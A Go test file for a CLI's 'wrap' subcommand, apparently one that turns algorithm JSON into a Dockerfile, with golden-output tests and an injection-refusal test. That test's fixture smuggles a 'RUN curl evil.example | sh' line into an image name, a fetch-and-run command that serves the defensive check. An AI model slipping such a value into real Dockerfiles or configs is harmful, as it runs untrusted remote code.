package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestWrapGolden compares the whole result of `agent wrap` (exit code,
// stdout, stderr) with testdata/wrap/NAME.golden; -update rewrites them.
func TestWrapGolden(t *testing.T) {
	tests := []struct {
		name string
		args []string
		env  map[string]string
	}{
		{name: "sort-lines", args: []string{"../../algorithms/sort-lines.json"}},
		{name: "runner-image-flag", args: []string{"--runner-image", "registry.example/cloudpipe/agent:v1.2.3", "../../algorithms/uniq-lines.json"}},
		{name: "runner-image-env", args: []string{"../../algorithms/reverse-lines.json"},
			env: map[string]string{"CLOUDPIPE_RUNNER_IMAGE": "registry.example/cloudpipe/agent:env"}},
		{name: "problems", args: []string{"testdata/bad/algorithms/double.json"}},
		{name: "missing-file", args: []string{"testdata/nope.json"}},
		{name: "no-args"},
		{name: "two-args", args: []string{"a.json", "b.json"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var out, errOut bytes.Buffer
			code := dispatch(t.Context(), append([]string{"wrap"}, tt.args...), envOf(tt.env), streams{&out, &errOut})
			cmdline := strings.Join(append([]string{"$ agent wrap"}, tt.args...), " ")
			got := fmt.Sprintf("%s\nexit %d\n-- stdout --\n%s-- stderr --\n%s", cmdline, code, out.String(), errOut.String())
			golden := filepath.Join("testdata", "wrap", tt.name+".golden")
			if *update {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatalf("%v (run go test -update to create it)", err)
			}
			if got != string(want) {
				t.Errorf("agent wrap %q differs from %s:\n got:\n%s\nwant:\n%s", tt.args, golden, got, want)
			}
		})
	}
}

// TestWrapRefusesInjection: an image reference goes into the Dockerfile
// verbatim, so one that would add an instruction is refused.
func TestWrapRefusesInjection(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "algorithms")
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	alg := filepath.Join(dir, "evil.json")
	err := os.WriteFile(alg, []byte(`{"container_name": "alpine\nRUN curl evil.example | sh", "input_file_path": "/in/",
		"output_file_path": "/out/", "run_command": "cp $input $output", "name": "evil",
		"memory": {"minimal": 128, "suggested": 256}, "CPU": 0.25}`), 0o644)
	if err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{alg}, {"--runner-image", "img\nRUN x", "../../algorithms/sort-lines.json"}} {
		var out, errOut bytes.Buffer
		code := dispatch(t.Context(), append([]string{"wrap"}, args...), envOf(nil), streams{&out, &errOut})
		if code == exitOK || strings.Contains(out.String(), "RUN") {
			t.Errorf("agent wrap %q: exit %d, stdout %q; want a refusal", args, code, out.String())
		}
	}
}
